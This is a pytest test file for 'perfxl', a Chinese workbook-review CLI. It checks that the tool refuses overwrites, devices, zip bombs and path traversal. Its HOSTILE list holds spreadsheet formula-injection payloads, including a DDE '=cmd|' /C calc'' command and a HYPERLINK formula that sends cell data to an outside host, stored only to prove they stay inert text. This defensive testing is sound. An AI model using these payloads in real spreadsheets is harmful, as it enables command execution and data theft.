"""Hostile and odd inputs, pass 2: never overwrite, never hang, never inject.

Every case has an asserted outcome: a clear Chinese refusal (exit 2), a row in a batch, or
a documented acceptance; never a traceback, never a changed input, never a live formula
from data, never a write outside the chosen folder.  Every subprocess runs under a
generous timeout, so a hang fails the test instead of stalling the suite.
"""

from __future__ import annotations

import errno
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from perfxl import files
from perfxl.cli import main
from perfxl.errors import PerfxlError

from . import county
from .conftest import EXAMPLE_DATA, EXAMPLE_WORKBOOK, ROOT, unchanged

REPORT = ROOT / "workbooks" / "北山镇2023_自评报告.txt"
LIMIT = 120   # seconds: generous; a hang is what it catches

posix_only = pytest.mark.skipif(os.name != "posix", reason="FIFOs, devices and signals are POSIX")


def run_cli(*args, cwd=None, timeout=LIMIT):
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    env.pop("PERFXL_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "perfxl", *map(str, args)], capture_output=True, text=True,
                          env=env, cwd=cwd, timeout=timeout)


def refused(r, *words):
    """Exit 2 with one Chinese sentence (no traceback, no catch-all) containing ``words``."""
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr and "意外错误" not in r.stderr, r.stderr
    assert r.stderr.startswith("perfxl：") or "用法：" in r.stderr, r.stderr
    for w in words:
        assert w in r.stderr, (w, r.stderr)


def copy_of(src: Path, dst: Path) -> Path:
    dst.write_bytes(Path(src).read_bytes())
    return dst


def no_temp_files(folder: Path) -> None:
    left = [p.name for p in Path(folder).rglob(".perfxl-*")]
    assert not left, left


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def _with_sheet_xml(tmp_path: Path, name: str, edit) -> Path:
    """The example workbook with its first sheet's XML passed through ``edit``."""
    members = _members(EXAMPLE_WORKBOOK)
    members["xl/worksheets/sheet1.xml"] = edit(members["xl/worksheets/sheet1.xml"])
    return _zip(tmp_path / name, members)


# == 1. data loss: an input of the run is never an output ======================================

def test_report_is_never_the_output(tmp_path):
    book, report = copy_of(EXAMPLE_WORKBOOK, tmp_path / "表.xlsx"), copy_of(REPORT, tmp_path / "报告.txt")
    with unchanged(book, report):
        for fmt in ("text", "json", "xlsx"):
            r = run_cli("check", book, "--narrative", report, "--format", fmt, "-o", report, "--force")
            refused(r, "就是输入文件")


def test_profile_is_never_the_output(tmp_path):
    profile = tmp_path / "规则.toml"
    profile.write_text('"预算执行率满分线" = 1.0\n', encoding="utf-8")
    book = copy_of(EXAMPLE_WORKBOOK, tmp_path / "表.xlsx")
    with unchanged(book, profile):
        refused(run_cli("check", book, "--profile", profile, "-o", profile, "--force"), "就是输入文件")
        refused(run_cli("check", book, "--profile", profile, "--format", "xlsx", "-o", profile, "--force"),
                "就是输入文件")
        refused(run_cli("new", "--profile", profile, "-o", profile, "--force"), "就是输入文件")


def test_data_file_and_previous_year_are_never_the_output(tmp_path):
    data = copy_of(EXAMPLE_DATA, tmp_path / "数据.toml")
    book = copy_of(EXAMPLE_WORKBOOK, tmp_path / "上年.xlsx")
    with unchanged(data, book):
        refused(run_cli("fill", data, "-o", data, "--force"), "就是输入文件")
        refused(run_cli("new", "--from", book, "-o", book, "--force"), "就是输入文件")
        refused(run_cli("figures", REPORT, "-o", REPORT, "--force"), "就是输入文件")


def test_links_to_an_input_are_the_input(tmp_path):
    book = copy_of(EXAMPLE_WORKBOOK, tmp_path / "表.xlsx")
    (tmp_path / "软链接.txt").symlink_to(book)
    os.link(book, tmp_path / "硬链接.txt")
    with unchanged(book):
        for out in ("软链接.txt", "硬链接.txt"):
            refused(run_cli("check", book, "-o", tmp_path / out, "--force"), "就是输入文件")


def test_batch_never_writes_into_the_folder(tmp_path):
    folder = tmp_path / "甲"
    folder.mkdir()
    sub = copy_of(EXAMPLE_WORKBOOK, folder / "b.xlsx")
    notes = folder / "说明.docx"
    notes.write_bytes(b"not really a docx")
    with unchanged(sub, notes):
        for out in (sub, notes):
            for fmt in ("xlsx", "json"):
                r = run_cli("batch", folder, "-o", out, "--force", "--format", fmt, "--jobs", "1")
                refused(r, "被检查的文件夹")
    assert sorted(p.name for p in folder.iterdir()) == ["b.xlsx", "说明.docx"]


@posix_only
def test_fifo_output_is_refused_and_not_replaced(tmp_path):
    fifo = tmp_path / "管道.txt"
    os.mkfifo(fifo)
    for fmt in ("text", "xlsx"):
        refused(run_cli("check", EXAMPLE_WORKBOOK, "--format", fmt, "-o", fifo, "--force"), "不是普通文件")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@posix_only
def test_device_output_is_refused_without_touching_it(monkeypatch, capsys):
    # /dev/null must survive even if the refusal were broken: any replace or link fails the test first
    def forbidden(*a, **k):
        raise AssertionError("an output was about to be moved onto a device")

    before = os.stat("/dev/null")
    monkeypatch.setattr(os, "replace", forbidden)
    monkeypatch.setattr(os, "link", forbidden)
    for argv in (["check", str(EXAMPLE_WORKBOOK), "-o", "/dev/null", "--force"],
                 ["new", "-o", "/dev/null", "--force"],
                 ["addin", "build", "-o", "/dev/null", "--force"]):
        assert main(argv) == 2
        assert "不是普通文件" in capsys.readouterr().err
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode) and after.st_ino == before.st_ino


def test_two_runs_racing_for_one_name(tmp_path):
    """Without --force the name is created exclusively: one run wins, the other is refused."""
    from perfxl.forms.workbook import build_forms
    from perfxl.xlsx import template

    out = tmp_path / "同名.xlsx"
    barrier = threading.Barrier(2)
    outcomes: list[str] = []

    def writer(unit):
        wb = template.build_workbook(build_forms(2023), {"unit.name": unit})
        files.check_output_path(out)          # both pass the early check…
        barrier.wait()
        try:
            files.atomic_write(out, template.workbook_bytes(wb))   # …only one may create the file
            outcomes.append("written")
        except PerfxlError as exc:
            outcomes.append(str(exc))

    threads = [threading.Thread(target=writer, args=(u,)) for u in ("甲单位", "乙单位")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(LIMIT)
    assert len(outcomes) == 2 and outcomes.count("written") == 1, outcomes
    assert "已存在" in next(o for o in outcomes if o != "written")
    no_temp_files(tmp_path)


def test_second_writer_without_force_is_refused_at_the_last_moment(tmp_path):
    out = tmp_path / "r.txt"
    files.check_output_path(out)
    out.write_text("另一个程序先写好的", encoding="utf-8")
    with pytest.raises(PerfxlError, match="已存在"):
        files.atomic_write(out, b"perfxl")
    assert out.read_text(encoding="utf-8") == "另一个程序先写好的"
    no_temp_files(tmp_path)


# == 5. ordinary OS conditions on output: each its own sentence ==================================

def test_output_is_a_folder(tmp_path):
    refused(run_cli("check", EXAMPLE_WORKBOOK, "-o", tmp_path, "--force"), "是一个文件夹")
    refused(run_cli("new", "-o", str(tmp_path) + os.sep), "不是文件名")


def test_output_under_a_file(tmp_path):
    plain = tmp_path / "普通文件.txt"
    plain.write_text("x", encoding="utf-8")
    with unchanged(plain):
        refused(run_cli("check", EXAMPLE_WORKBOOK, "-o", plain / "结果.txt"), "是一个文件，不是文件夹")


def test_empty_output_name():
    refused(run_cli("check", EXAMPLE_WORKBOOK, "-o", ""), "输出文件名为空")
    refused(run_cli("new", "-o", "  "), "输出文件名为空")


def test_output_name_too_long(tmp_path):
    refused(run_cli("check", EXAMPLE_WORKBOOK, "-o", tmp_path / ("很长" * 60 + ".txt")), "文件名过长")


def test_read_only_target_is_not_replaced(tmp_path, monkeypatch, capsys):
    out = tmp_path / "只读.txt"
    out.write_text("旧", encoding="utf-8")
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode, **k: False if Path(p) == out and mode == os.W_OK
                        else real(p, mode, **k))   # root ignores file modes: simulate the read-only flag
    with unchanged(out):
        assert main(["check", str(EXAMPLE_WORKBOOK), "-o", str(out), "--force"]) == 2
    assert "只读" in capsys.readouterr().err


@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "磁盘空间不足"), (errno.EROFS, "只读"),
                                         (errno.EACCES, "没有访问"), (errno.EIO, "磁盘错误")])
def test_os_errors_while_writing(tmp_path, monkeypatch, capsys, code, words):
    def failing(fd):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "fsync", failing)
    out = tmp_path / "r.json"
    assert main(["check", str(EXAMPLE_WORKBOOK), "--format", "json", "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert words in err and "意外错误" not in err, err
    assert not out.exists()
    no_temp_files(tmp_path)


def test_os_errors_reading_are_sentences_too(tmp_path, monkeypatch, capsys):
    real_open = os.open

    def denied(path, flags, *a, **k):
        if str(path).endswith("禁读.xlsx"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *a, **k)

    book = copy_of(EXAMPLE_WORKBOOK, tmp_path / "禁读.xlsx")
    monkeypatch.setattr(os, "open", denied)
    assert main(["check", str(book)]) == 2
    err = capsys.readouterr().err
    assert "没有访问" in err and "意外错误" not in err


# == 2. hangs and unbounded cost ================================================================

@posix_only
def test_workbook_fifo_and_device_are_refused_without_blocking(tmp_path):
    fifo = tmp_path / "管道.xlsx"
    os.mkfifo(fifo)
    zero = tmp_path / "零.xlsx"
    zero.symlink_to("/dev/zero")
    for p in (fifo, zero):
        refused(run_cli("check", p, timeout=60), "不是普通文件")
        refused(run_cli("new", "--from", p, timeout=60), "不是普通文件")


@posix_only
def test_report_fifo_and_dev_zero_are_refused(tmp_path):
    fifo = tmp_path / "报告.txt"
    os.mkfifo(fifo)
    zero = tmp_path / "零.docx"
    zero.symlink_to("/dev/zero")
    for p in (fifo, zero, Path("/dev/zero")):
        refused(run_cli("check", "--narrative", p, timeout=60), "不是普通文件")
        refused(run_cli("figures", p, timeout=60), "不是普通文件")


@posix_only
def test_data_and_profile_from_devices_are_refused(tmp_path):
    refused(run_cli("fill", "/dev/zero", "-o", tmp_path / "x.xlsx", timeout=60), "不是普通文件")
    refused(run_cli("new", "--profile", "/dev/zero", "-o", tmp_path / "x.xlsx", timeout=60), "不是普通文件")


def test_symlink_loop_and_dangling_link_as_inputs(tmp_path):
    loop = tmp_path / "环.xlsx"
    loop.symlink_to(loop)
    dangling = tmp_path / "断.xlsx"
    dangling.symlink_to(tmp_path / "不存在.xlsx")
    refused(run_cli("check", loop), "循环")
    refused(run_cli("check", dangling), "失效的快捷方式")


def test_column_past_xfd_is_refused_quickly(tmp_path):
    for letters in ("ZZZZZZ", "ZZZZ", "XFE"):
        p = _with_sheet_xml(tmp_path, f"{letters}.xlsx", lambda s, L=letters: s.replace(
            b"</sheetData>", f'<row r="3"><c r="{L}3"><v>1</v></c></row></sheetData>'.encode()))
        assert p.stat().st_size < 64 * 1024
        with unchanged(p):
            refused(run_cli("check", p, timeout=60), "超出了 Excel 的范围")


def test_far_apart_cells_are_refused_not_scanned(tmp_path):
    p = _with_sheet_xml(tmp_path, "稀疏.xlsx", lambda s: s.replace(
        b"</sheetData>", b'<row r="99000"><c r="XFD99000"><v>1</v></c></row></sheetData>'))
    refused(run_cli("check", p, timeout=60), "不像是自评表")


def test_huge_merge_is_clipped_to_the_used_range(tmp_path):
    def edit(s):
        return s.replace(b"</mergeCells>", b'<mergeCell ref="AA1:XFD99999"/></mergeCells>')

    p = _with_sheet_xml(tmp_path, "大合并.xlsx", edit)
    r = run_cli("check", p, "--format", "json", timeout=60)
    assert r.returncode == 1, r.stderr
    assert json.loads(r.stdout)["unit"] == "北山镇人民政府"


def test_huge_defined_name_is_clipped(tmp_path):
    members = _members(EXAMPLE_WORKBOOK)
    wb_xml = members["xl/workbook.xml"]
    assert b'name="\xe6\x8c\x87\xe6\xa0\x87_\xe5\x88\x86\xe5\x80\xbc"' in wb_xml   # 指标_分值
    import re

    members["xl/workbook.xml"] = re.sub(rb'(name="\xe6\x8c\x87\xe6\xa0\x87_\xe5\x88\x86\xe5\x80\xbc"[^>]*>)([^<]*)!([^<]*)<',
                                        rb"\1\2!$A$1:$XFD$99999<", wb_xml)
    p = _zip(tmp_path / "大名称.xlsx", members)
    r = run_cli("check", p, "--format", "json", timeout=60)
    assert r.returncode in (0, 1), r.stderr
    assert "Traceback" not in r.stderr


def test_docx_bomb_is_refused(tmp_path):
    from io import BytesIO

    from docx import Document

    buf = BytesIO()
    Document().save(buf)
    members = _members_bytes(buf.getvalue())
    members["word/media/bomb.bin"] = b"\0" * (210 * 1024 * 1024)
    p = _zip(tmp_path / "炸弹.docx", members)
    assert p.stat().st_size < 2 * 1024 * 1024
    refused(run_cli("check", "--narrative", p, timeout=60), "为安全起见不予读取")


def _members_bytes(data: bytes) -> dict[str, bytes]:
    from io import BytesIO

    with zipfile.ZipFile(BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_fill_with_100000_indicator_rows_is_refused(tmp_path):
    rows = "\n".join('  ["产出指标", "数量指标", "指标", "1", "1", 1, 1],' for _ in range(100_000))
    data = tmp_path / "十万行.toml"
    data.write_text(f'"单位名称" = "甲"\n"年度" = 2023\n["附件4"]\n"指标" = [\n{rows}\n]\n', encoding="utf-8")
    refused(run_cli("fill", data, "-o", tmp_path / "x.xlsx", timeout=60), "超过 2000 行")
    assert not (tmp_path / "x.xlsx").exists()


# -- batch: one broken file is one row, whatever happens to its worker ---------------------------

def hostile_task(item):
    """A batch task for tests: a worker killed by the kernel, or one that never returns."""
    from perfxl import batch

    name = item[0].workbook.name
    if name.startswith("杀死"):
        os.kill(os.getpid(), signal.SIGKILL)
    if name.startswith("挂起"):
        time.sleep(3600)
    if name.startswith("内存"):
        raise MemoryError
    if name.startswith("巨量"):
        # 8 GB of address space, never touched (no real memory used): refused only when the
        # worker's memory limit (RLIMIT_AS) is in force
        import mmap

        try:
            mmap.mmap(-1, 8 * 1024 ** 3).close()
        except OSError:
            raise MemoryError from None
    if name.startswith("环境"):
        # how the worker was started: what SIGTERM does to it, where its temporary files go,
        # and whether its error output is the terminal's
        import tempfile

        ignored = signal.getsignal(signal.SIGTERM) == signal.SIG_IGN
        quiet = os.path.realpath(f"/proc/self/fd/2") == os.devnull
        return batch.unusable(item[0], f"{ignored}|{tempfile.gettempdir()}|{quiet}")
    return batch._review_task(item)


_POOL_SCRIPT = """
import json, sys
from pathlib import Path
from perfxl.batch import iter_submissions, review_all
from tests.test_bad_inputs_2 import hostile_task
records = list(review_all(iter_submissions(Path(sys.argv[1])), int(sys.argv[2]), task=hostile_task, seconds=8))
print(json.dumps([[Path(r["file"]).name, r["status"], r["reason"]] for r in records], ensure_ascii=False))
"""


@posix_only
@pytest.mark.parametrize("jobs", [1, 2])
def test_batch_survives_dead_and_hung_workers(tmp_path, jobs):
    folder = tmp_path / "材料"
    folder.mkdir()
    for name in ("a正常.xlsx", "杀死.xlsx", "挂起.xlsx", "内存.xlsx", "巨量.xlsx", "z正常.xlsx"):
        copy_of(EXAMPLE_WORKBOOK, folder / name)
    r = subprocess.run([sys.executable, "-c", _POOL_SCRIPT, str(folder), str(jobs)], capture_output=True, text=True,
                       cwd=ROOT, env=dict(os.environ, PYTHONPATH=str(ROOT)), timeout=LIMIT)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    rows = {name: (status, reason) for name, status, reason in json.loads(r.stdout)}
    assert list(rows) == sorted(["a正常.xlsx", "杀死.xlsx", "挂起.xlsx", "内存.xlsx", "巨量.xlsx", "z正常.xlsx"])
    assert rows["a正常.xlsx"][0] == rows["z正常.xlsx"][0] == "ok"
    assert rows["杀死.xlsx"][0] == "unusable" and "进程异常退出" in rows["杀死.xlsx"][1]
    assert rows["挂起.xlsx"][0] == "unusable" and "处理超时" in rows["挂起.xlsx"][1]
    assert rows["内存.xlsx"][0] == "unusable" and "内存" in rows["内存.xlsx"][1]
    assert rows["巨量.xlsx"][0] == "unusable" and "内存" in rows["巨量.xlsx"][1]      # the limit holds


@posix_only
def test_workers_leave_stopping_and_temporary_files_to_the_batch(tmp_path):
    """Workers ignore SIGTERM as they ignore Ctrl-C (the batch stops them itself), write their
    temporary files into a folder of the batch's own that is gone when it ends, and print
    nothing to the terminal (a worker forked just as the batch stops has no traceback to show)."""
    folder = tmp_path / "材料"
    folder.mkdir()
    copy_of(EXAMPLE_WORKBOOK, folder / "环境.xlsx")
    tmp_dir = tmp_path / "临时"
    tmp_dir.mkdir()
    r = subprocess.run([sys.executable, "-c", _POOL_SCRIPT, str(folder), "1"], capture_output=True, text=True,
                       cwd=ROOT, env=dict(os.environ, PYTHONPATH=str(ROOT), TMPDIR=str(tmp_dir)), timeout=LIMIT)
    assert r.returncode == 0, r.stderr
    (_, _, reason), = json.loads(r.stdout)
    ignored, workers_tmp, quiet = reason.split("|")
    assert ignored == "True" and quiet == "True"
    assert Path(workers_tmp).parent == tmp_dir and Path(workers_tmp).name.startswith("perfxl-workers-")
    assert list(tmp_dir.iterdir()) == []      # removed when the batch ended


def test_a_stop_landing_in_a_callback_is_delivered_again():
    """Ctrl-C (or SIGTERM) arriving while Python runs a callback cannot stop it there; perfxl
    delivers it again instead of letting Python print "Exception ignored" and carry on.
    Anything else still goes to the hook that was there before."""
    import types

    from perfxl import cli

    saved = sys.unraisablehook
    seen = []
    try:
        sys.unraisablehook = lambda u: seen.append(u.exc_type)
        cli._redeliver_lost_stops()

        def event(kind):
            return types.SimpleNamespace(exc_type=kind, exc_value=kind(), exc_traceback=None,
                                         err_msg="Exception ignored in", object=None)

        sys.unraisablehook(event(ValueError))
        assert seen == [ValueError]
        with pytest.raises(KeyboardInterrupt):
            sys.unraisablehook(event(KeyboardInterrupt))
            for _ in range(1000):   # raised at the next instruction boundary of the main thread
                time.sleep(0.001)
        assert seen == [ValueError]
    finally:
        sys.unraisablehook = saved


@posix_only
def test_batch_skips_fifos_devices_and_link_loops(tmp_path):
    folder = tmp_path / "材料"
    folder.mkdir()
    copy_of(EXAMPLE_WORKBOOK, folder / "a.xlsx")
    os.mkfifo(folder / "b管道.xlsx")
    (folder / "c零.xlsx").symlink_to("/dev/zero")
    (folder / "d环.xlsx").symlink_to(folder / "d环.xlsx")
    (folder / "e断.xlsx").symlink_to(folder / "无.xlsx")
    os.mkfifo(folder / "a.txt")     # the workbook's report: a FIFO too
    out = tmp_path / "汇总.json"
    with unchanged(folder / "a.xlsx"):
        r = run_cli("batch", folder, "-o", out, "--format", "json", "--jobs", "2")
    assert r.returncode in (0, 1) and "Traceback" not in r.stderr, r.stderr
    assert "共检查 5 份，其中 4 份无法读取" in r.stdout
    subs = {Path(s["file"]).name: s for s in json.loads(out.read_text(encoding="utf-8"))["submissions"]}
    assert subs["a.xlsx"]["status"] == "ok" and "不是普通文件" in subs["a.xlsx"]["reason"]   # report refused
    assert "不是普通文件" in subs["b管道.xlsx"]["reason"] and "不是普通文件" in subs["c零.xlsx"]["reason"]
    assert "循环" in subs["d环.xlsx"]["reason"] and "失效" in subs["e断.xlsx"]["reason"]


@posix_only
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_batch_stopped_midway_leaves_nothing(tmp_path, sig):
    folder = tmp_path / "材料"
    folder.mkdir()
    for i in range(40):
        copy_of(EXAMPLE_WORKBOOK, folder / f"{i:02d}.xlsx")
    out_dir = tmp_path / "输出"
    out_dir.mkdir()
    tmp_dir = tmp_path / "临时"
    tmp_dir.mkdir()
    env = dict(os.environ, PYTHONPATH=str(ROOT), TMPDIR=str(tmp_dir))
    proc = subprocess.Popen([sys.executable, "-m", "perfxl", "batch", str(folder), "-o", str(out_dir / "汇总.json"),
                             "--format", "json", "--jobs", "2"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=env, start_new_session=True)
    deadline = time.monotonic() + LIMIT
    while not list(out_dir.glob(".perfxl-*")) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)          # the half-written summary exists: the batch is under way
    os.killpg(proc.pid, sig)      # as a terminal's Ctrl-C does: every process of the group
    out, err = proc.communicate(timeout=LIMIT)
    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err
    if proc.returncode == 2:
        assert "已取消" in err and not list(out_dir.iterdir())
    else:   # finished before the signal came
        assert proc.returncode == 1 and (out_dir / "汇总.json").exists()
    no_temp_files(out_dir)
    assert not list(tmp_dir.iterdir())


def test_full_disk_during_batch(tmp_path, monkeypatch, capsys):
    import tempfile

    from perfxl import batch

    folder = tmp_path / "材料"
    folder.mkdir()
    for i in range(3):
        copy_of(EXAMPLE_WORKBOOK, folder / f"{i}.xlsx")
    tmp_dir = tmp_path / "临时"
    tmp_dir.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_dir))
    real_add = batch.Spool.add

    def add(self, item):
        if self.count >= 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_add(self, item)

    monkeypatch.setattr(batch.Spool, "add", add)
    out = tmp_path / "汇总.xlsx"
    assert main(["batch", str(folder), "-o", str(out), "--jobs", "1", "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "磁盘空间不足" in err and "意外错误" not in err, err
    assert not out.exists()
    no_temp_files(tmp_path)
    # only multiprocessing's own socket folder and the workers' (empty) temporary folder, both
    # removed when this process ends; no data
    left = [p for p in tmp_dir.rglob("*") if not p.name.startswith(("pymp-", "perfxl-workers-")) and not p.is_socket()]
    assert not left, left


# == 3. injection and traversal =================================================================

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid")',
           "+1+1", "-2+3", "@SUM(1,2)"]


def _formulas_from(path: Path, texts) -> list[str]:
    """Cells of ``path`` holding one of ``texts`` as a formula instead of text."""
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" and isinstance(c.value, str) and any(c.value == t for t in texts)]


def test_fill_stores_formula_like_data_as_text(tmp_path):
    text = EXAMPLE_DATA.read_text(encoding="utf-8")
    text = text.replace('"单位名称" = "北山镇人民政府"', f'"单位名称" = {json.dumps(HOSTILE[0], ensure_ascii=False)}')
    text = text.replace('"实际完成情况" = "完成情况较好"', f'"实际完成情况" = {json.dumps(HOSTILE[1], ensure_ascii=False)}')
    text = text.replace('["", "", "农业保险承保面积"', f'["", "", {json.dumps(HOSTILE[2], ensure_ascii=False)}')
    text = text.replace('"30家", "34家"', '"+1+1", "-2+3"').replace('"160件", "186件"', '"@SUM(1,2)", "@x"')
    data = tmp_path / "注入.toml"
    data.write_text(text, encoding="utf-8")
    out = tmp_path / "注入.xlsx"
    r = run_cli("fill", data, "-o", out)
    assert r.returncode == 0, r.stderr
    assert _formulas_from(out, HOSTILE) == []
    values = {c.value for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row}
    assert set(HOSTILE) <= values           # kept, as text
    assert any(isinstance(v, str) and v.startswith("=SUM") or v and str(v).startswith("=") and "指标" in str(v)
               for v in values if isinstance(v, str))   # perfxl's own formulas stay formulas
    # and the file reads back with the hostile text as the unit name, not a formula result
    r = run_cli("check", out, "--format", "json")
    assert json.loads(r.stdout)["unit"] == HOSTILE[0]


def test_new_unit_formula_is_text(tmp_path):
    out = tmp_path / "n.xlsx"
    r = run_cli("new", "--unit", "=cmd|' /C calc'!A0", "-o", out)
    assert r.returncode == 0, r.stderr
    assert _formulas_from(out, ["=cmd|' /C calc'!A0"]) == []


def test_unit_name_never_makes_a_path(tmp_path):
    """new --from without -o names the file after the workbook's unit: never outside the folder."""
    from perfxl.forms.workbook import build_forms
    from perfxl.xlsx import template

    work = tmp_path / "一" / "二"
    work.mkdir(parents=True)
    cases = ["../../逃逸", "..\\..\\逃逸", "/etc/passwd", "甲\n乙\t丙\r", "长" * 300, "..", "a:b*c?<>|"]
    for i, unit in enumerate(cases):
        src = tmp_path / f"上年{i}.xlsx"
        template.save(template.build_workbook(build_forms(2023), {"unit.name": unit}), src)
        before = {p for p in tmp_path.rglob("*")}
        r = run_cli("new", "--from", src, cwd=work)
        assert r.returncode == 0, (unit, r.stderr)
        made = {p for p in tmp_path.rglob("*")} - before
        assert len(made) == 1, made
        new, = made
        assert new.parent == work, new                      # written where asked, nowhere else
        assert len(new.name) <= 80 and "\x00" not in new.name and "\n" not in new.name
        new.unlink()


def test_names_from_content_are_sanitised():
    from perfxl.files import safe_filename

    for text in ("../../x", "..", "a/b\\c", "甲\x00乙\x1f丙", "x" * 500, "CON:", " .隐藏", "a..b"):
        name = safe_filename(text)
        assert name and len(name) <= 60 and ".." not in name and not name.startswith(".")
        assert not any(ch in name for ch in '/\\:*?"<>|') and all(ord(ch) >= 32 for ch in name)
    assert safe_filename("北山镇人民政府") == "北山镇人民政府"
    assert safe_filename("  ") == "空白"


def test_control_characters_in_text_are_dropped_not_fatal(tmp_path):
    out = tmp_path / "c.xlsx"
    r = run_cli("new", "--unit", "北山\x01镇\x1b人民政府", "-o", out)
    assert r.returncode == 0, r.stderr
    values = [c.value for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
    assert "北山镇人民政府" in values


def test_unit_with_separator_gets_a_message_about_the_name(tmp_path):
    for unit in ("北山镇/财政所", "北山镇\\财政所"):
        r = run_cli("new", "--unit", unit, cwd=tmp_path)
        refused(r, "不能用作文件名")
        assert "文件夹" not in r.stderr
    assert not list(tmp_path.iterdir())
    assert run_cli("new", "--unit", "北山镇/财政所", "-o", tmp_path / "x.xlsx").returncode == 0


def test_empty_unit_is_refused():
    refused(run_cli("new", "--unit", ""), "单位名称是空的")


# == 4. silent misreads =========================================================================

def test_cells_without_r_attribute_are_read_by_position(tmp_path):
    from perfxl.xlsx.fastread import read_package

    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             b'<row><c t="inlineStr"><is><t>\xe7\xbc\x96\xe5\x88\xb6\xe6\x95\xb0</t></is></c><c><v>114</v></c></row>'
             b'<row r="4"><c r="B4"><v>1</v></c><c><v>2</v></c></row>'
             b'<row><c><v>3</v></c><c r="D5"><v>4</v></c><c><v>5</v></c></row>'
             b'</sheetData></worksheet>')
    members = _members(EXAMPLE_WORKBOOK)
    members["xl/worksheets/sheet1.xml"] = sheet
    grid = read_package(_zip(tmp_path / "无r.xlsx", members)).grids[0]
    got = {c.ref: c.value for c in grid.cells.values()}
    assert got == {"A1": "编制数", "B1": 114, "B4": 1, "C4": 2, "A5": 3, "D5": 4, "E5": 5}


def test_libreoffice_style_workbook_without_r_reads_like_the_original(tmp_path):
    import re

    def strip_r(s):
        return re.sub(rb'<c r="[A-Z]+\d+"', b"<c", s)

    p = _with_sheet_xml(tmp_path, "无地址.xlsx", strip_r)
    a = json.loads(run_cli("check", EXAMPLE_WORKBOOK, "--format", "json").stdout)
    b = json.loads(run_cli("check", p, "--format", "json").stdout)
    assert b["unit"] == a["unit"] and [f["rule"] for f in b["findings"]] == [f["rule"] for f in a["findings"]]


@pytest.mark.parametrize("text", ["NaN", "nan", "inf", "-Infinity", "1e999"])
def test_nan_and_inf_are_reported(tmp_path, text):
    from perfxl.checks.runner import run_checks
    from perfxl.xlsx.reader import read_workbook

    p = county.build(tmp_path / "nan.xlsx")
    members = _members(p)
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b'<c r="B5" t="n"><v>114</v></c>', f'<c r="B5" t="n"><v>{text}</v></c>'.encode())
    data, _ = read_workbook(_zip(tmp_path / "n2.xlsx", members))
    found = [f for f in run_checks(data) if f.rule == "READ-NOT-NUMBER"]
    assert [f.cells for f in found] == [["附件3!B5"]]


# == 5. messages: parse errors and absurd values ================================================

def test_overlapping_merges(tmp_path):
    p = _with_sheet_xml(tmp_path, "重叠.xlsx", lambda s: s.replace(
        b"</mergeCells>", b'<mergeCell ref="A1:C3"/><mergeCell ref="B2:D4"/></mergeCells>'))
    with unchanged(p):
        for fmt in ("xlsx", "text"):
            refused(run_cli("check", p, "--format", fmt, "-o", tmp_path / f"o.{fmt}"), "互相重叠")


def test_5000_digit_number_in_a_report(tmp_path):
    report = tmp_path / "报告.txt"
    report.write_text("基本支出" + "9" * 5000 + "万元，项目支出621.15万元。", encoding="utf-8")
    refused(run_cli("check", EXAMPLE_WORKBOOK, "--narrative", report), "不可能是金额")
    refused(run_cli("figures", report), "不可能是金额")


@pytest.mark.parametrize("body, words", [('"年度" = \n', "第 1 行"), ('"单位名称" = 北山镇\n', "值的写法不对"),
                                         ('"年度" = 2023\n"年度" = 2024\n', "重复"), ('"单位名称 = "x"\n', "第 1 行")])
def test_toml_errors_are_chinese(tmp_path, body, words):
    data = tmp_path / "坏.toml"
    data.write_text(body, encoding="utf-8")
    r = run_cli("fill", data, "-o", tmp_path / "x.xlsx")
    refused(r, "格式有误", words)
    assert "line" not in r.stderr and "column" not in r.stderr and "Expected" not in r.stderr
    r = run_cli("check", EXAMPLE_WORKBOOK, "--profile", data)
    refused(r, "规则文件", words)
    assert "line" not in r.stderr


@pytest.mark.parametrize("argv, words", [
    (["batch", ".", "--jobs", "x"], "不是整数"),
    (["batch", ".", "--jobs", "0"], "不合理"),
    (["new", "--year", "二〇二三"], "不是整数"),
    (["new", "--year", "0"], "不合理"),
    (["new", "--year", "20230"], "不合理"),
    (["new", "--year", "-1"], "不合理"),
    (["check", "--format", "pdf"], "无效"),
    (["check", "--bogus"], "无法识别的参数"),
    (["fill"], "缺少必需的参数"),
    (["figures", "a.txt", "-o"], "需要一个值"),
    (["nosuchcommand"], "无效"),
])
def test_command_line_errors_are_chinese(argv, words):
    r = run_cli(*argv)
    assert r.returncode == 2 and words in r.stderr, r.stderr
